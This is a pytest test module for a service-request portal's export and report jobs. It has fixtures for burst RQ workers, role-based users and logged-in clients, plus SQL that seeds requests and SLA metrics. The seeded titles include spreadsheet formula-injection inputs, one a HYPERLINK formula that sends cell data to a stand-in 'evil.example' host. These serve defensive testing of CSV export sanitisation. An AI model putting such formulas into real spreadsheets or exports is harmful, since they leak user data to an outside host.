"""Exports and reports: real PostgreSQL, Redis and burst RQ workers started as `flask jobs worker`."""

from __future__ import annotations

import subprocess
from types import SimpleNamespace

import pytest
from sqlalchemy import text

from tests.conftest import TEST_PASSWORD
from tests.jobs.test_worker import ROOT, _env, _flask


@pytest.fixture(autouse=True)
def export_dir(app, tmp_path):
    """Each test writes its files to a directory of its own (EXPORT_DIR, also handed to the workers)."""
    previous = app.config["EXPORT_DIR"]
    app.config["EXPORT_DIR"] = str(tmp_path / "exports")
    yield tmp_path / "exports"
    app.config["EXPORT_DIR"] = previous


@pytest.fixture()
def run_worker(app, export_dir):
    """Run a burst worker on the given queues until they are empty; returns the finished process."""

    def _run(queues: str = "exports,reports,analytics,default", **extra_env: str):
        env = _env(app)
        env.update({"EXPORT_DIR": str(export_dir), **extra_env})
        result = subprocess.run(_flask("jobs", "worker", "--burst", "--queues", queues), cwd=ROOT, env=env,
                                capture_output=True, text=True, timeout=300)
        assert result.returncode == 0, result.stderr[-3000:]
        return result

    return _run


@pytest.fixture()
def people(app):
    """A requester, an agent, two managers and an admin (plain snapshots with id, email, name, role)."""
    from tests import factories

    with app.app_context():
        made = {}
        for key, role, name in (("requester", "requester", "Rita Requester"), ("agent", "agent", "Alex Agent"),
                                ("manager", "manager", "Mona Manager"), ("other_manager", "manager", "Otto Other"),
                                ("admin", "admin", "Ada Admin")):
            user = factories.make_user(role, email=f"{key.replace('_', '.')}@example.com", name=name)
            made[key] = SimpleNamespace(id=user.id, email=user.email, name=user.name, role=role,
                                        password=TEST_PASSWORD)
    return SimpleNamespace(**made)


@pytest.fixture()
def signed_in(app):
    """A new test client signed in through the real form."""

    def _login(user):
        client = app.test_client()
        response = client.post("/login", data={"email": user.email, "password": user.password})
        assert response.status_code == 303, response.status_code
        return client

    return _login


def seed_requests(app, n: int, requester_id: int, assignee_id: int | None = None) -> None:
    """`n` requests in one INSERT, with titles a spreadsheet or a CSV parser could trip on, and SLA clocks."""
    with app.app_context():
        from portal.extensions import db

        db.session.execute(text("""
            INSERT INTO service_request (title, description, category, priority, status, requester_id,
                                         assignee_id, created_at, updated_at, resolved_at, version)
            SELECT CASE g % 10
                     WHEN 0 THEN '=HYPERLINK("http://evil.example/?x="&A1, "click") #' || g
                     WHEN 1 THEN '+1+1 sum #' || g
                     WHEN 2 THEN '-2 minus #' || g
                     WHEN 3 THEN '@SUM(A1:A9) #' || g
                     WHEN 4 THEN E'\\tTabbed #' || g
                     WHEN 5 THEN 'Comma, "quoted" and; semicolon #' || g
                     WHEN 6 THEN E'Two\\nlines #' || g
                     WHEN 7 THEN 'Ünïcödé — 日本語 ✓ #' || g
                     WHEN 8 THEN E'\\rReturn first #' || g
                     ELSE 'Printer jammed #' || g END,
                   'desc', (ARRAY['hardware','software','network','access','other'])[1 + g % 5],
                   (ARRAY['low','medium','high','critical'])[1 + g % 4],
                   CASE WHEN g % 3 = 0 THEN 'resolved' ELSE 'open' END,
                   :requester, CASE WHEN g % 2 = 0 THEN CAST(:assignee AS integer) END,
                   now() - make_interval(mins => g), now() - make_interval(mins => g),
                   CASE WHEN g % 3 = 0 THEN now() - make_interval(mins => g) + interval '30 minutes' END, 1
              FROM generate_series(1, :n) AS g
        """), {"n": n, "requester": requester_id, "assignee": assignee_id})
        db.session.execute(text("""
            INSERT INTO sla_metric (request_id, at_risk_percent, pause_statuses, started_at, paused_seconds,
                                    is_breached, status, created_at, updated_at, resolution_due_at,
                                    resolution_sla_met, resolved_at, resolution_breached_at)
            SELECT id, 75, '{}', created_at, 0, id % 7 = 0, status, created_at, created_at,
                   created_at + interval '4 hours',
                   CASE WHEN status = 'resolved' THEN id % 7 <> 0 END, resolved_at,
                   CASE WHEN id % 7 = 0 THEN created_at + interval '4 hours' END
              FROM service_request WHERE id % 2 = 1
        """))
        db.session.commit()
